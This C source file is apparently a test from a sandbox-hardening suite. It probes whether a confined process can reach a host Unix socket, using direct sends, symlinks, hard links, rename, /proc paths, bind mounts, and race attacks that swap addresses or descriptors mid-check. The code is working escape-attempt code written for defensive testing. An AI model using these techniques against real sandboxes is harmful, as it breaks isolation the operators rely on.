/* hostile-unix NAME SCRATCH [stream|datagram] - reaches a unix socket of the host (T9, T10).
 *
 * NAME is a path, or "@name" for the abstract space. SCRATCH is a directory where the attacker may
 * write. Reaching means that connect succeeds or a datagram is taken.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static const char *target, *scratch;
static char directory[PATH_MAX], name[PATH_MAX];
static int type = SOCK_STREAM;

static socklen_t address(struct sockaddr_un *at, const char *path)
{
    memset(at, 0, sizeof *at);
    at->sun_family = AF_UNIX;
    size_t n = strlen(path);
    if (n >= sizeof at->sun_path)
        attack_cannot("'%s' is too long for a socket", path);
    memcpy(at->sun_path, path, n);
    if (path[0] == '@')
        at->sun_path[0] = 0;
    return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n);
}

static bool reached(const char *path)
{
    struct sockaddr_un at;
    socklen_t size = address(&at, path);
    int fd = socket(AF_UNIX, type, 0);
    bool worked = fd >= 0 && connect(fd, (struct sockaddr *)&at, size) == 0;
    int os = errno;
    close(fd);
    errno = os;
    return worked;
}

static bool by_connect(void)
{
    return reached(target);
}

static bool by_full_address(void)
{
    struct sockaddr_un at;
    address(&at, target);
    int fd = socket(AF_UNIX, type, 0);
    return fd >= 0 && connect(fd, (struct sockaddr *)&at, sizeof at) == 0;
}

static bool by_other_types(void)
{
    static const int types[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET, SOCK_RAW };
    struct sockaddr_un at;
    socklen_t size = address(&at, target);
    for (size_t i = 0; i < sizeof types / sizeof *types; i++) {
        int fd = socket(AF_UNIX, types[i] | SOCK_CLOEXEC, 0);
        if (fd >= 0 && connect(fd, (struct sockaddr *)&at, size) == 0)
            return true;
    }
    return false;
}

static bool by_sendto(void)
{
    struct sockaddr_un at;
    socklen_t size = address(&at, target);
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    return fd >= 0 && sendto(fd, "hostile", 7, 0, (struct sockaddr *)&at, size) == 7;
}

static bool by_sendmsg(void)
{
    struct sockaddr_un at;
    char word[] = "hostile";
    struct iovec part = { word, 7 };
    struct msghdr message = { .msg_name = &at, .msg_iov = &part, .msg_iovlen = 1 };
    message.msg_namelen = address(&at, target);
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    return fd >= 0 && sendmsg(fd, &message, 0) == 7;
}

static bool by_sendmmsg(void)
{
    struct sockaddr_un at;
    char word[] = "hostile";
    struct iovec part = { word, 7 };
    struct mmsghdr messages[2] = { 0 };
    socklen_t size = address(&at, target);
    for (int i = 0; i < 2; i++)
        messages[i].msg_hdr = (struct msghdr){
            .msg_name = &at, .msg_namelen = size, .msg_iov = &part, .msg_iovlen = 1
        };
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    return fd >= 0 && sendmmsg(fd, messages, 2, 0) > 0;
}

static bool by_symlink(void)
{
    char alias[PATH_MAX];
    snprintf(alias, sizeof alias, "%s/alias", scratch);
    if (*target == '@' || symlink(target, alias) < 0)
        return false;
    bool worked = reached(alias);
    int os = errno;
    unlink(alias);
    errno = os;
    return worked;
}

static bool by_hard_link(void)
{
    char alias[PATH_MAX];
    snprintf(alias, sizeof alias, "%s/alias-hard", scratch);
    if (*target == '@' || link(target, alias) < 0)
        return false;
    bool worked = reached(alias);
    int os = errno;
    unlink(alias);
    errno = os;
    return worked;
}

static bool by_rename(void)
{
    char away[PATH_MAX];
    snprintf(away, sizeof away, "%s/away", scratch);
    if (*target == '@' || rename(target, away) < 0)
        return false;
    bool worked = reached(away);
    if (rename(away, target) < 0)
        attack_note("could not put it back");
    return worked;
}

static bool by_relative_name(void)
{
    char path[PATH_MAX + 8];
    if (*target == '@' || chdir(directory) < 0)
        return false;
    snprintf(path, sizeof path, "./%s", name);
    return reached(name) || reached(path);
}

static bool by_proc_names(void)
{
    char path[PATH_MAX];
    if (*target == '@')
        return false;
    int at = open(target, O_PATH), up = open(directory, O_PATH);
    snprintf(path, sizeof path, "/proc/self/fd/%d", at);
    if (at >= 0 && reached(path))
        return true;
    snprintf(path, sizeof path, "/proc/self/fd/%d/%.64s", up, name);
    if (up >= 0 && reached(path))
        return true;
    return chdir(directory) == 0 && snprintf(path, sizeof path, "/proc/self/cwd/%.64s", name) > 0 &&
           reached(path);
}

static bool by_bind_mount(void)
{
    char alias[PATH_MAX];
    snprintf(alias, sizeof alias, "%s/bound", scratch);
    close(open(alias, O_CREAT | O_WRONLY, 0600));
    if (*target == '@' || mount(target, alias, NULL, MS_BIND, NULL) < 0)
        return false;
    bool worked = reached(alias);
    umount2(alias, MNT_DETACH);
    return worked;
}

/* The address changes in memory between a socket of ours and the host's while the call is judged. */
static struct sockaddr_un flipped, own_address, host_address;
static socklen_t flipped_size;
static atomic_bool stop;

static void *flip(void *unused)
{
    while (!atomic_load(&stop)) {
        memcpy(&flipped, &own_address, sizeof flipped);
        memcpy(&flipped, &host_address, sizeof flipped);
    }
    return unused;
}

/* True when a connection that is not to our own listener came about. */
static bool by_changing_the_address(void)
{
    char mine[PATH_MAX];
    snprintf(mine, sizeof mine, "%s/own", scratch);
    address(&own_address, mine);
    address(&host_address, target);
    flipped_size = sizeof flipped;
    int own = socket(AF_UNIX, type, 0);
    unlink(mine);
    if (*target == '@' || own < 0 ||
        bind(own, (struct sockaddr *)&own_address, sizeof own_address) < 0)
        return false;
    if (type != SOCK_DGRAM && listen(own, 1024) < 0)
        return false;
    pthread_t thread;
    if (pthread_create(&thread, NULL, flip, NULL) != 0)
        return false;
    bool worked = false;
    for (long end = attack_now() + 40; !worked && attack_now() < end;) {
        struct sockaddr_un peer = { 0 };
        socklen_t size = sizeof peer;
        int fd = socket(AF_UNIX, type | SOCK_NONBLOCK, 0);
        if (connect(fd, (struct sockaddr *)&flipped, flipped_size) == 0 &&
            getpeername(fd, (struct sockaddr *)&peer, &size) == 0)
            worked = strcmp(peer.sun_path, target) == 0;
        close(fd);
    }
    atomic_store(&stop, true);
    pthread_join(thread, NULL);
    unlink(mine);
    errno = EACCES;
    return worked;
}

/* A descriptor that leads to a stream while the call is judged, and to a datagram socket when the kernel
 * takes it. */
static int swapped, stream_end, datagram;

static void *swap(void *unused)
{
    while (!atomic_load(&stop)) {
        dup2(stream_end, swapped);
        dup2(datagram, swapped);
    }
    return unused;
}

static bool by_swapping_the_descriptor(void)
{
    struct sockaddr_un at;
    int pair[2];
    char word[] = "hostile";
    struct iovec part = { word, 7 };
    struct msghdr message = { .msg_name = &at, .msg_iov = &part, .msg_iovlen = 1 };
    message.msg_namelen = address(&at, target);
    if (socketpair(AF_UNIX, SOCK_SEQPACKET, 0, pair) < 0)
        return false;
    stream_end = pair[0];
    swapped = dup(stream_end);
    for (int i = 0; i < 100; i++) /* before there is any: these go on by themselves */
        sendmsg(stream_end, &message, MSG_DONTWAIT);
    datagram = socket(AF_UNIX, SOCK_DGRAM, 0);
    pthread_t thread;
    atomic_store(&stop, false);
    if (*target == '@' || datagram < 0 || pthread_create(&thread, NULL, swap, NULL) != 0)
        return false;
    for (long end = attack_now() + 100; attack_now() < end;) {
        sendmsg(swapped, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
        sendto(swapped, word, 7, MSG_DONTWAIT | MSG_NOSIGNAL, (struct sockaddr *)&at,
               message.msg_namelen);
    }
    atomic_store(&stop, true);
    pthread_join(thread, NULL);
    errno = EACCES;
    return false; /* whether one has arrived, the server knows */
}

/* The same with the name: it leads to our own socket while the call is judged. */
static bool by_changing_the_name_of_a_send(void)
{
    char mine[PATH_MAX], word[] = "hostile";
    snprintf(mine, sizeof mine, "%s/own-datagrams", scratch);
    address(&own_address, mine);
    address(&host_address, target);
    int own = socket(AF_UNIX, SOCK_DGRAM, 0), fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    unlink(mine);
    if (*target == '@' || own < 0 || fd < 0 ||
        bind(own, (struct sockaddr *)&own_address, sizeof own_address) < 0)
        return false;
    struct iovec part = { word, 7 };
    struct msghdr message = {
        .msg_name = &flipped, .msg_namelen = sizeof flipped, .msg_iov = &part, .msg_iovlen = 1
    };
    pthread_t thread;
    atomic_store(&stop, false);
    if (pthread_create(&thread, NULL, flip, NULL) != 0)
        return false;
    for (long end = attack_now() + 100; attack_now() < end;) {
        sendmsg(fd, &message, MSG_DONTWAIT);
        sendto(fd, word, 7, MSG_DONTWAIT, (struct sockaddr *)&flipped, sizeof flipped);
        while (recv(own, word, sizeof word, MSG_DONTWAIT) > 0)
            continue;
    }
    atomic_store(&stop, true);
    pthread_join(thread, NULL);
    unlink(mine);
    errno = EACCES;
    return false;
}

/* A send that was let through must not be on its way still when the first datagram socket comes. */
static void *send_for_ever(void *to)
{
    char word[] = "hostile";
    struct iovec part = { word, 7 };
    struct msghdr message = { .msg_name = to, .msg_iov = &part, .msg_iovlen = 1 };
    message.msg_namelen = sizeof host_address;
    while (!atomic_load(&stop))
        sendmsg(swapped, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
    return NULL;
}

static bool by_a_send_from_before(void)
{
    int pair[2];
    pthread_t threads[8];
    if (*target == '@' || socketpair(AF_UNIX, SOCK_SEQPACKET, 0, pair) < 0)
        return false;
    address(&host_address, target);
    swapped = dup(pair[0]);
    atomic_store(&stop, false);
    for (size_t i = 0; i < 8; i++)
        if (pthread_create(&threads[i], NULL, send_for_ever, &host_address) != 0)
            attack_cannot("no thread");
    datagram = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (datagram >= 0)
        dup2(datagram, swapped);
    for (long end = attack_now() + 50; attack_now() < end;)
        sched_yield();
    atomic_store(&stop, true);
    for (size_t i = 0; i < 8; i++)
        pthread_join(threads[i], NULL);
    errno = EACCES;
    return false;
}

int main(int argc, char **argv)
{
    static const struct way ways[] = {
        { "send from before", by_a_send_from_before }, /* first: there is no datagram socket yet */
        { "connect", by_connect },
        { "full address", by_full_address },
        { "other types", by_other_types },
        { "sendto", by_sendto },
        { "sendmsg", by_sendmsg },
        { "sendmmsg", by_sendmmsg },
        { "symlink", by_symlink },
        { "hard link", by_hard_link },
        { "rename", by_rename },
        { "relative name", by_relative_name },
        { "names of /proc", by_proc_names },
        { "bind mount", by_bind_mount },
        { "changing address", by_changing_the_address },
        { "changing name of a send", by_changing_the_name_of_a_send },
        { "swapping descriptor", by_swapping_the_descriptor },
    };
    attack_begin(argc, argv);
    target = attack_argument(1);
    scratch = attack_argument(2);
    if (argc > 3 && strcmp(argv[3], "datagram") == 0)
        type = SOCK_DGRAM;
    attack_split(target, directory, name);
    return attack_run(ways, sizeof ways / sizeof *ways);
}
